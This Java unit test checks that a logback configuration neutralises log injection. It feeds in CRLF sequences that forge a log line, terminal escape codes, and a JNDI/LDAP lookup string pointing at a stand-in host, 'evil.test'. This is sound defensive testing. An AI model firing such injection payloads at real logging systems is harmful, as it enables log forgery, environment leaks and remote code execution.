package org.postroute;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.encoder.PatternLayoutEncoder;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.LoggingEvent;
import ch.qos.logback.core.OutputStreamAppender;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The log as shipped. */
class LogLayoutTest {
    private static String written(String message) throws Exception {
        LoggerContext context = new LoggerContext();
        JoranConfigurator configurator = new JoranConfigurator();
        configurator.setContext(context);
        configurator.doConfigure(
                Path.of("src/main/resources/logback.xml").toUri().toURL());
        Logger root = context.getLogger(Logger.ROOT_LOGGER_NAME);
        var console = (OutputStreamAppender<ILoggingEvent>) root.getAppender("CONSOLE");
        LoggingEvent event = new LoggingEvent("", root, Level.WARN, "server says {}", null, new Object[] {message});
        byte[] line = ((PatternLayoutEncoder) console.getEncoder()).encode(event);
        return new String(line, StandardCharsets.UTF_8);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "no\r\n2026-11-21T00:00:00.000Z INFO  [main] Forged - all is well",
                "no\u001b[2K\u001b[1Aforged",
                "no\0\b\u007f",
                "no\u009b2Kforged\u0085x"
            })
    void a_message_is_one_line_without_controls(String message) throws Exception {
        assertThat(written(message))
                .endsWith("\n")
                .satisfies(line -> assertThat(line.strip().chars().filter(Character::isISOControl))
                        .isEmpty());
    }

    @Test
    void nothing_in_a_message_is_looked_up() throws Exception {
        assertThat(written("${jndi:ldap://evil.test/x} ${env:HOME} %d{HH} %X{a}"))
                .contains("server says ${jndi:ldap://evil.test/x} ${env:HOME} %d{HH} %X{a}");
    }
}
